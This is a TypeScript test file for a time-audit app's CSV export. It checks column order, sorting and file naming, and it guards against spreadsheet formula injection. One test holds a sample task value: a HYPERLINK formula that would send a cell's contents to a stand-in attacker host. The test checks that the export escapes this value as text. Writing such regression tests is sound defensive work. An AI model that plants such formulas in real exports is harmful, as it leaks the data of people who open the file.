import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, timeAuditCsvName, timeAuditCsvRows } from './csv-rows';
import type { TimeEntry } from './time-audit-section';

describe('CSV rows', () => {
  it('starts with the columns and lists entries oldest first with plain values', () => {
    const later = new Date(2026, 2, 2, 10, 5).getTime();
    const earlier = new Date(2026, 2, 2, 9, 30).getTime();
    const entries: TimeEntry[] = [
      { task: 'Call, then "write"\nnotes', timestamp: later, duration: 35, energy: 'draining', value: '$$', quadrant: 'replacement', date: '2026-03-02' },
      { task: 'Plan', timestamp: earlier, duration: 15, energy: null, value: null, quadrant: 'unassigned', date: '2026-03-02' },
    ];
    expect(timeAuditCsvRows(entries)).toEqual([
      [...CSV_COLUMNS],
      ['2026-03-02', '09:30', 'Plan', 15, '', '', 'unassigned'],
      ['2026-03-02', '10:05', 'Call, then "write"\nnotes', 35, 'draining', '$$', 'replacement'],
    ]);
    expect(CSV_COLUMNS).toEqual(['Date', 'Time', 'Task', 'Duration (min)', 'Energy', 'Value', 'Quadrant']);
    expect(timeAuditCsvName('2026-03-02')).toBe('time-audit-2026-03-02.csv');
  });

  // Issue 21 item 11: a task typed as a formula ran when the export was opened in a spreadsheet.
  it('writes a task that looks like a formula as text', () => {
    const at = new Date(2026, 2, 2, 9, 0).getTime();
    const task = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    const [, row] = timeAuditCsvRows([{ task, timestamp: at, duration: 5, energy: null, value: null, quadrant: 'unassigned', date: '2026-03-02' }]);
    expect(row![2]).toBe(`'${task}`);
    expect(row![3]).toBe(5);
  });
});
